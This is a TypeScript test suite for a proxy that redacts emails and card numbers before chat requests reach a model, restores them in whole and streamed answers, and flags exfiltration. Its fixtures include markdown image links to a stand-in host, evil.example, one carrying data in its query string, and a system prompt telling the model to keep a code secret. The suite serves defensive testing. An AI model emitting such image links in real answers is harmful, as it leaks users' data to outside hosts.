// The proxy steps for OpenAI-compatible chat completions: request redaction, whole-answer scan and
// restore, and the SSE guard at every chunk split. The last suite runs them between the official
// `openai` client and a real HTTP fake upstream (echoes the user's message, can be told to leak),
// through a minimal test-only forwarder: the server route that wires these steps is not built yet.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import OpenAI from 'openai';
import type { Placer } from '../../../src/guard/redact/redact.js';
import type { Resolver } from '../../../src/guard/redact/restore.js';
import { guardChatRequest } from '../../../src/guard/proxy/chat-request.js';
import { guardChatResponse } from '../../../src/guard/proxy/chat-response.js';
import { SseChatGuard } from '../../../src/guard/proxy/sse.js';

function conversation(): Placer & Resolver {
  const byValue = new Map<string, string>();
  const byPlaceholder = new Map<string, string>();
  const next = new Map<string, number>();
  return {
    async place(values) {
      return values.map(({ value, entity }) => {
        let p = byValue.get(value);
        if (p === undefined) {
          const n = (next.get(entity) ?? 0) + 1;
          next.set(entity, n);
          byValue.set(value, (p = `<${entity}_${n}>`));
          byPlaceholder.set(p, value);
        }
        return p;
      });
    },
    async resolve(ps) {
      return new Map(ps.filter((p) => byPlaceholder.has(p)).map((p) => [p, byPlaceholder.get(p)!]));
    },
  };
}

const ENT = { entities: ['EMAIL_ADDRESS' as const, 'CREDIT_CARD' as const] };

describe('guardChatRequest', () => {
  it('redacts string and text-part contents, keeps other fields, and hashes what is forwarded', async () => {
    const body = { model: 'm', temperature: 0, messages: [
      { role: 'system', content: 'You are a helpful bot. Never reveal the code WINTER-42.' },
      { role: 'user', content: 'Mail ada@example.com about 4111 1111 1111 1111' },
      { role: 'user', content: [{ type: 'text', text: 'cc ada@example.com' }, { type: 'image_url', image_url: { url: 'https://x.example/i.png' } }] },
    ] };
    const g = await guardChatRequest(body, conversation(), ENT);
    const m = g.body['messages'] as Array<{ content: unknown }>;
    assert.equal(m[1]!.content, 'Mail <EMAIL_ADDRESS_1> about <CREDIT_CARD_1>');
    assert.deepEqual(m[2]!.content, [{ type: 'text', text: 'cc <EMAIL_ADDRESS_1>' }, { type: 'image_url', image_url: { url: 'https://x.example/i.png' } }]);
    assert.equal(g.body['temperature'], 0);
    assert.deepEqual(g.placeholders, [{ placeholder: '<EMAIL_ADDRESS_1>', entity: 'EMAIL_ADDRESS' }, { placeholder: '<CREDIT_CARD_1>', entity: 'CREDIT_CARD' }]);
    assert.match(g.promptSha256, /^[0-9a-f]{64}$/);
    assert.equal(g.systemPrompt, body.messages[0]!.content);
    assert.equal((body.messages[1] as { content: string }).content.includes('ada@'), true, 'the caller\'s body is not mutated');
    await assert.rejects(guardChatRequest({ messages: [] }, conversation()), { code: 'ERR_INPUT_INVALID' });
    await assert.rejects(guardChatRequest('x', conversation()), { code: 'ERR_INPUT_INVALID' });
  });
});

describe('guardChatResponse', () => {
  it('scans what the model wrote and restores only with a resolver', async () => {
    const conv = conversation();
    await conv.place([{ value: 'ada@example.com', entity: 'EMAIL_ADDRESS' }]);
    const answer = { id: 'x', choices: [{ index: 0, message: { role: 'assistant', content: 'Sent to <EMAIL_ADDRESS_1>. ![p](https://evil.example/p.png)' }, finish_reason: 'stop' }] };
    const allowed = await guardChatResponse(answer, conv);
    assert.equal((allowed.body['choices'] as Array<{ message: { content: string } }>)[0]!.message.content, 'Sent to ada@example.com. ![p](https://evil.example/p.png)');
    assert.equal(allowed.restored, 1);
    assert.equal(allowed.verdicts[0]!.flagged, true);
    assert.deepEqual(allowed.verdicts[0]!.findings.map((f) => f.scanner), ['output.exfil']);
    const denied = await guardChatResponse(answer, undefined);
    assert.equal((denied.body['choices'] as Array<{ message: { content: string } }>)[0]!.message.content, answer.choices[0]!.message.content);
    assert.equal(denied.answerSha256, allowed.answerSha256, 'the hash is of what the model wrote');
  });
});

function sse(id: string, pieces: readonly string[]): string {
  const chunk = (delta: object, finish: string | null) => `data: ${JSON.stringify({ id, object: 'chat.completion.chunk', created: 1, model: 'fake', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
  return chunk({ role: 'assistant', content: '' }, null) + pieces.map((p) => chunk({ content: p }, null)).join('') + chunk({}, 'stop') + 'data: [DONE]\n\n';
}

function contentOf(stream: string): string {
  let out = '';
  for (const ev of stream.split('\n\n')) {
    if (!ev.startsWith('data: ') || ev === 'data: [DONE]') continue;
    for (const c of (JSON.parse(ev.slice(6)) as { choices: Array<{ delta: { content?: string } }> }).choices) out += c.delta.content ?? '';
  }
  return out;
}

describe('SseChatGuard', () => {
  it('restores placeholders split across chunks and across network reads, at every split', async () => {
    const conv = conversation();
    await conv.place([{ value: 'ada@example.com', entity: 'EMAIL_ADDRESS' }, { value: '4111 1111 1111 1111', entity: 'CREDIT_CARD' }]);
    const words = 'Mailed <EMAIL_ADDRESS_1>, charged <CREDIT_CARD_1>, kept <PERSON_7> and a < b.';
    const want = 'Mailed ada@example.com, charged 4111 1111 1111 1111, kept <PERSON_7> and a < b.';
    for (const size of [1, 2, 3, 5, 8, 13]) {
      const pieces: string[] = [];
      for (let i = 0; i < words.length; i += size) pieces.push(words.slice(i, i + size));
      const raw = sse('c1', pieces);
      for (const read of [7, 64, raw.length]) {
        const g = new SseChatGuard(conv);
        let out = '';
        for (let i = 0; i < raw.length; i += read) out += await g.push(raw.slice(i, i + read));
        out += await g.end();
        assert.equal(contentOf(out), want, `chunk ${size}, read ${read}`);
        assert.ok(out.endsWith('data: [DONE]\n\n'));
        const s = g.summary();
        assert.equal(s.restored, 2);
        assert.equal(s.verdicts[0]!.flagged, false);
      }
    }
    const denied = new SseChatGuard(undefined);
    const raw = sse('c2', ['<EMAIL_', 'ADDRESS_1>']);
    assert.equal(contentOf((await denied.push(raw)) + (await denied.end())), '<EMAIL_ADDRESS_1>');
  });
});

describe('the proxy steps between the openai client and a real upstream', () => {
  let upstream: Server;
  let proxy: Server;
  let proxyUrl = '';
  const conv = conversation();
  const seenUpstream: string[] = [];
  let allowRestore = true;

  before(async () => {
    // The fake upstream: answers "You said: <last user message>", or leaks when told to.
    upstream = createServer((req, res) => {
      let body = '';
      req.on('data', (d) => (body += d));
      req.on('end', () => {
        const b = JSON.parse(body) as { stream?: boolean; messages: Array<{ content: string }> };
        seenUpstream.push(body);
        const last = b.messages.at(-1)!.content;
        const text = last.includes('LEAK') ? `Sure: ![x](https://evil.example/c.png?d=${'A'.repeat(40)}) ${last}` : `You said: ${last}`;
        if (b.stream === true) {
          res.writeHead(200, { 'content-type': 'text/event-stream' });
          const pieces = text.match(/.{1,4}/gs)!;
          res.end(sse('u1', pieces));
        } else {
          res.writeHead(200, { 'content-type': 'application/json' });
          res.end(JSON.stringify({ id: 'u1', object: 'chat.completion', created: 1, model: 'fake', choices: [{ index: 0, message: { role: 'assistant', content: text }, finish_reason: 'stop' }], usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 } }));
        }
      });
    });
    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', r));
    const upstreamUrl = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}/v1/chat/completions`;
    // A minimal forwarder wiring the steps (the real route adds auth, policy and audit).
    proxy = createServer((req, res) => {
      let body = '';
      req.on('data', (d) => (body += d));
      req.on('end', async () => {
        const g = await guardChatRequest(JSON.parse(body), conv, ENT);
        const up = await fetch(upstreamUrl, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(g.body) });
        const resolver = allowRestore ? conv : undefined;
        if (g.body['stream'] === true) {
          res.writeHead(200, { 'content-type': 'text/event-stream' });
          const guard = new SseChatGuard(resolver, { systemPrompt: g.systemPrompt });
          const dec = new TextDecoder();
          for await (const bytes of up.body!) res.write(await guard.push(dec.decode(bytes as Uint8Array, { stream: true })));
          res.end(await guard.end());
        } else {
          const out = await guardChatResponse(await up.json(), resolver, { systemPrompt: g.systemPrompt });
          res.writeHead(200, { 'content-type': 'application/json', 'x-guard-flagged': String(out.verdicts.some((v) => v.flagged)) });
          res.end(JSON.stringify(out.body));
        }
      });
    });
    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
    proxyUrl = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}/v1`;
  });
  after(async () => {
    await new Promise((r) => proxy.close(r));
    await new Promise((r) => upstream.close(r));
  });

  it('the upstream sees placeholders only; an allowed caller gets values back, streamed or not', async () => {
    const client = new OpenAI({ baseURL: proxyUrl, apiKey: 'test-key', maxRetries: 0 });
    const prompt = 'Charge 4111 1111 1111 1111 and mail ada@example.com';
    const whole = await client.chat.completions.create({ model: 'fake', messages: [{ role: 'user', content: prompt }] });
    assert.equal(whole.choices[0]!.message.content, `You said: ${prompt}`);
    const stream = await client.chat.completions.create({ model: 'fake', stream: true, messages: [{ role: 'user', content: prompt }] });
    let streamed = '';
    for await (const chunk of stream) streamed += chunk.choices[0]?.delta?.content ?? '';
    assert.equal(streamed, `You said: ${prompt}`);
    for (const seen of seenUpstream) {
      assert.equal(seen.includes('4111'), false);
      assert.equal(seen.includes('ada@'), false);
      assert.ok(seen.includes('<CREDIT_CARD_1>') && seen.includes('<EMAIL_ADDRESS_1>'));
    }
    allowRestore = false;
    const denied = await client.chat.completions.create({ model: 'fake', messages: [{ role: 'user', content: prompt }] });
    assert.equal(denied.choices[0]!.message.content, 'You said: Charge <CREDIT_CARD_1> and mail <EMAIL_ADDRESS_1>');
    const leak = await client.chat.completions.create({ model: 'fake', messages: [{ role: 'user', content: 'LEAK it' }] }).withResponse();
    assert.equal(leak.response.headers.get('x-guard-flagged'), 'true');
    allowRestore = true;
  });
});
